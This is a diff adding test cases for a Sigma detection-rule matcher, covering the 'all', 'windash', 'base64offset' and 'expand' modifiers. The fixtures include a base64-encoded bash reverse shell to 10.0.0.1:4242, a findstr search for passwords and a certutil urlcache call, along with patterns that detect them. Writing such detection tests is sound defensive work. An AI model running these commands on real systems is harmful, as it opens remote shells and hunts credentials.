@@ -156,6 +156,47 @@ describe('string modifiers', () => {
       { 'process.command_line': 'powershell xenc AAA' },
       false,
     ],
+    // `all` ANDs the values as written, each met by any of its own dash variants (sigma-appendix-modifiers.md:
+    // "all", "windash"; pySigma's windash yields an OR-ed SigmaExpansion per value). SigmaHQ writes
+    // `CommandLine|contains|all|windash` for flags in any order and either form.
+    ...(['contains|all|windash', 'windash|contains|all'] as const).flatMap((mods): Row[] => [
+      [
+        `${mods}: each value in its - form`,
+        `process.command_line|${mods}: [' -s ', ' -i ']`,
+        { 'process.command_line': 'findstr -s -i password' },
+        true,
+      ],
+      [
+        `${mods}: each value in another form`,
+        `process.command_line|${mods}: [' -s ', ' -i ']`,
+        { 'process.command_line': 'findstr /s \u2013i password' },
+        true,
+      ],
+      [
+        `${mods}: one value missing`,
+        `process.command_line|${mods}: [' -s ', ' -i ']`,
+        { 'process.command_line': 'findstr /s /q password' },
+        false,
+      ],
+      [
+        `${mods}: a single value`,
+        `process.command_line|${mods}: [' -urlcache ']`,
+        { 'process.command_line': 'certutil /urlcache x' },
+        true,
+      ],
+    ]),
+    [
+      'base64offset|contains|all: each value at any offset',
+      "x.text|base64offset|contains|all: ['/bin/bash', '/dev/tcp/']",
+      { 'x.text': Buffer.from('x/bin/bash -i >& /dev/tcp/10.0.0.1/4242').toString('base64') },
+      true,
+    ],
+    [
+      'base64offset|contains|all: one value missing',
+      "x.text|base64offset|contains|all: ['/bin/bash', '/dev/tcp/']",
+      { 'x.text': Buffer.from('x/bin/bash -i').toString('base64') },
+      false,
+    ],
     [
       're searches anywhere',
       "process.command_line|re: '\\s-O\\s'",
@@ -273,6 +314,18 @@ describe('specific modifiers', () => {
           true,
         ],
         ['other values do not match', "user.name|expand: '%Administrators%'", { 'user.name': 'jane' }, false],
+        [
+          'expand|all: each value met by any of its placeholder values',
+          "x.text|expand|contains|all: ['%Administrators%', 'sudo']",
+          { 'x.text': 'sudo by adm_jane' },
+          true,
+        ],
+        [
+          'expand|all: one value missing',
+          "x.text|expand|contains|all: ['%Administrators%', 'sudo']",
+          { 'x.text': 'su by root' },
+          false,
+        ],
         [
           'a placeholder inside text',
           "x.text|expand: 'login by %Administrators%!'",
